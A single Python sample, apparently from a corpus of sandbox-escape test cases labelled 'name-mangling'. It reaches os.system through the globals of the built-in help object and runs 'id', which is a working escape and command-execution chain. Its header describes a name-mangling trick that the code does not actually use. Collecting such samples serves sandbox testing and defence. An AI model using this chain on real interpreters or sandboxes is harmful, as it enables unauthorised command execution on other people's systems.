# Source: https://docs.python.org/3/reference/expressions.html#private-name-mangling
# Family: name-mangling
# What: a class-private name that mangles into a real attribute name (_Helper__name style)
class _Helper:
    def peek(self, h):
        return h.__class__.__call__.__globals__

g = _Helper().peek(help)
g["sys"].modules["os"].system("id")
